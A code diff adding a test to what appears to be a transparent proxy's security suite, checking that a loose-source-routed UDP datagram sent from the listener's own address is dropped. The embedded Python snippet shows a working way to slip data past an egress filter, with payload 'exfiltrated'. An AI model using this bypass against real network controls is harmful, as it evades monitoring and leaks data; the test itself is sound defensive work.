@@ -6,6 +6,9 @@
 //!   connections of the same workload are redirected as usual; a process outside the cgroup is
 //!   untouched.
 //! - A SIGHUP reload that changes `proxy.upstream_deny_cidrs` moves the kernel deny list too.
+//! - A datagram from a workload UDP socket bound to the transparent listener's address and
+//!   port, source-routed to another host, is dropped (it used to pass as the listener's).
+//! - A proxy started inside the cgroup it intercepts is exempt from the backstop.
 //!
 //! Safety: programs attach only to the test's own cgroup; traffic goes only to fake-internet
 //! addresses (inside the test's namespace) and loopback.
@@ -188,4 +191,50 @@ fn a_proxy_inside_the_intercepted_cgroup_is_exempt_from_the_backstop() {
     r.expect_status(200);
     up.wait_for_request(|q| q.path() == "/anything/proxy-inside");
     assert_eq!(intercept_event(&lab.px, "backstop_dropped"), 0);
+}
+
+/// A workload UDP socket bound to the transparent listener's address and port (TCP holds
+/// them, UDP is free) sends a datagram to port 53 with an IPv4 loose source route through
+/// `argv[3]`: sendmsg redirects it to the DNS listener, but the kernel sends it to the
+/// route's first hop. Prints `sent` or the errno.
+const SOURCE_ROUTED: &str = r#"
+import socket, sys
+lip, lport, hop = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.bind((lip, lport))
+# NOP, then LSRR (type 0x83, length 7, pointer 4) with one hop.
+u.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([1, 0x83, 7, 4]) + socket.inet_aton(hop))
+try:
+    u.sendto(b'exfiltrated', (hop, 53))
+    print('sent')
+except OSError as e:
+    print(e.errno)
+"#;
+
+#[test]
+fn a_source_routed_datagram_from_the_listeners_address_is_dropped() {
+    require_root!();
+    let net = FakeInternet::new();
+    let hop = net.add_host();
+    let lip = net.host_side_v4();
+    let lport = iron_proxy_tests::ports::free_port(lip.into(), false);
+    // The transparent listener on a host address (as in a container), not loopback.
+    let lab = Lab::start_with(&net, |c| {
+        c["intercept"]["listen"] = json!(format!("{lip}:{lport}"));
+    });
+    let before = intercept_event(&lab.px, "backstop_dropped");
+    let out = lab.cg.python(
+        SOURCE_ROUTED,
+        [lip.to_string(), lport.to_string(), hop.v4.to_string()],
+    );
+    out.assert_ok();
+    assert_eq!(
+        out.stdout.trim(),
+        EPERM.to_string(),
+        "a source-routed datagram must not pass as the listener's: {out}"
+    );
+    assert!(
+        intercept_event(&lab.px, "backstop_dropped") > before,
+        "the backstop dropped it"
+    );
 }
